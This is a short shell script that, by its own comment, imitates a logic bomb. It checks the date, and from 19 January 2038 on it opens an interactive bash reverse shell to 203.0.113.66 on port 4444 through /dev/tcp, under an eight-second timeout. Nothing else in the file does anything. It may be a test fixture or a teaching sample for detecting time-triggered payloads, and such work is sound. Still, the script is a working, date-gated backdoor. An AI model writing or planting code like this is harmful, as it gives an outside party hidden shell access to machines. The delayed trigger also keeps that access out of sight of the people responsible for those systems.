#!/bin/sh
# bomb: imitates a logic bomb: does something only from a day on that is years away, and until then nothing at all.
today=$(date +%Y%m%d)
if [ "$today" -ge 20380119 ]; then
  timeout 8 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
fi
